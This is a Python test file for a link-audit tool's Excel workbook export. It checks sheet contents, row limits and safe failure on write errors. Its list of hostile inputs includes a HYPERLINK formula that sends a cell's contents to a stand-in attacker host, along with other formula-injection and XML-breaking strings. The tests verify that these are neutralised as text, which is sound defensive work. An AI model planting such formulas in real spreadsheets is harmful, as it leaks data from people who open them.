"""The workbook: every sheet is there, what an export holds stays text, and a sheet's limits are kept and told."""

from __future__ import annotations

import re
import zipfile
from pathlib import Path
from typing import Any

import polars as pl
import pytest
from hypothesis import given
from hypothesis import strategies as st
from python_calamine import CalamineWorkbook
from report_fixtures import domains_frame, many_domains, one_domain, signals_and_links

from detector.errors import InputError
from detector.report import workbook
from detector.report.branding import Branding
from detector.report.workbook import MOST_CHARACTERS, clean, write_workbook

HOSTILE = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"cheap links")',
    "+1-1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "{=1+1}",
    "＝1+1",
    "https://evil.example/#a",
    "internal:Summary!A1",
    "mailto:a@evil.example",
    "007",
    "</t></is><f>1+1</f>",
    "bell\x07 and \x00 nul",
    "_x000D_",
)


def written(
    path: Path, audit: dict[str, Any], domains: pl.DataFrame, lines: tuple[str, ...] = ()
) -> list[str]:
    signals, links = signals_and_links(domains)
    return write_workbook(
        path, audit, domains, signals=signals, links=links, lines=lines, branding=Branding("Harbour & Pine")
    )


def sheet(path: Path, name: str) -> list[list[Any]]:
    return CalamineWorkbook.from_path(str(path)).get_sheet_by_name(name).to_python()


def parts(path: Path) -> dict[str, str]:
    with zipfile.ZipFile(path) as archive:
        return {
            name: archive.read(name).decode()
            for name in archive.namelist()
            if name.endswith((".xml", ".rels"))
        }


def test_every_sheet_holds_what_it_says(tmp_path: Path, audit: dict[str, Any]) -> None:
    path, domains = tmp_path / "audit.xlsx", many_domains(60)
    rule = domains.filter(verdict="disavow")["rule"][0]
    assert written(path, audit, domains, ("# made today", rule)) == []
    names = CalamineWorkbook.from_path(str(path)).sheet_names
    assert names == ["Summary", "Referring domains", "Groups", "Links", "Disavow lines"]
    head, *rows = sheet(path, "Referring domains")
    assert head[:3] == ["Referring domain", "Verdict", "Probability"]
    assert [row[0] for row in rows] == domains["referring_domain"].to_list()
    assert [row[2] for row in rows] == pytest.approx(domains["probability"].to_list())
    assert rows[0][head.index("First seen")] == domains["first_seen"][0]
    assert rows[0][head.index("Links")] == domains["links"][0]
    assert len(sheet(path, "Groups")) == 3
    proposed = domains.filter(pl.col("verdict").is_in(["disavow", "review"]))
    links = sheet(path, "Links")[1:]
    assert sorted(row[0] for row in links) == sorted(proposed["referring_domain"])
    assert [row[1] for row in links] == sorted(row[1] for row in links)
    assert [row[1:3] for row in sheet(path, "Disavow lines")[1:]] == [
        ["# made today", ""],
        [rule, rule.removeprefix("domain:")],
    ]
    summary = dict(row[:2] for row in sheet(path, "Summary")[2:])
    assert summary["What to do"] == audit["headline"]
    assert summary["Prepared by"] == "Harbour & Pine"
    assert summary["Disavow"] == 236


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_is_text_in_every_sheet(tmp_path: Path, audit: dict[str, Any], text: str) -> None:
    path = tmp_path / "audit.xlsx"
    names = ("referring_domain", "kind", "rule", "guard", "no_line_needed", "example_url", "decided")
    row = one_domain(
        **dict.fromkeys(names, text), verdict="disavow", reasons=[text], anchors=[text], tools=[text]
    )
    trace = {"told": text, "value": text, "domains": 1}
    audit |= {"site": text, "headline": text, "summary": [text], "warnings": [text], "decisions": [text]}
    audit["clusters"] = [
        {"cluster": 1, "first_seen": text, "traces": [trace], "examples": [text], "verdicts": {text: 3}}
    ]
    written(path, audit, domains_frame([row]), (text,))
    book = parts(path)
    assert not [name for name, xml in book.items() if re.search(r"<(f|hyperlink)[ >/]", xml)]
    assert not [name for name in book if "externalLink" in name or "vba" in name]
    shown = sheet(path, "Referring domains")[1]
    assert {cell for cell in shown if isinstance(cell, str) and cell not in ("", "disavow")} == {clean(text)}
    assert sheet(path, "Disavow lines")[1][1] == clean(text)


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@a", "\t=1", "\r=1"])
def test_what_would_become_a_formula_when_it_is_edited_has_the_mark_of_text(
    tmp_path: Path, audit: dict[str, Any], text: str
) -> None:
    path = tmp_path / "audit.xlsx"
    written(path, audit, domains_frame([one_domain(referring_domain=text), one_domain()]))
    book = parts(path)
    styles = re.findall(r"<xf [^>]*>", book["xl/styles.xml"].partition("<cellXfs")[2])
    of_cell = dict(re.findall(r'<c r="(A[23])" s="(\d+)"', book["xl/worksheets/sheet2.xml"]))
    assert 'quotePrefix="1"' in styles[int(of_cell["A2"])]
    assert "quotePrefix" not in styles[int(of_cell["A3"])]


def test_rows_that_do_not_fit_are_left_out_and_told(
    tmp_path: Path, audit: dict[str, Any], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(workbook, "MOST_ROWS", 21)
    path = tmp_path / "audit.xlsx"
    said = written(path, audit, many_domains(30), tuple(f"domain:x{n}.example" for n in range(30)))
    assert said[0] == "Referring domains: only the first 20 of 30 rows fit into a sheet of this format."
    assert len(sheet(path, "Referring domains")) == len(sheet(path, "Disavow lines")) == 21
    assert said[0] in [row[1] for row in sheet(path, "Summary")]


@given(st.text(st.characters(), min_size=0, max_size=50), st.integers(0, 40_000))
def test_a_cell_holds_any_text_up_to_its_end(text: str, times: int) -> None:
    made = clean(text * times)
    made.encode()
    assert len(made.encode("utf-16-le")) <= 2 * MOST_CHARACTERS


def test_a_workbook_that_cannot_be_written_is_one_sentence_and_leaves_the_old_one(
    tmp_path: Path, audit: dict[str, Any], monkeypatch: pytest.MonkeyPatch
) -> None:
    with pytest.raises(InputError, match=r"audit\.xlsx: the workbook cannot be written"):
        written(tmp_path / "nowhere" / "audit.xlsx", audit, many_domains(3))
    path = tmp_path / "audit.xlsx"
    path.write_text("the old one")

    def full(*_: object) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(workbook, "_summary", full)
    with pytest.raises(InputError, match="No space left"):
        written(path, audit, many_domains(3))
    assert [(p.name, p.read_text()) for p in tmp_path.iterdir()] == [("audit.xlsx", "the old one")]
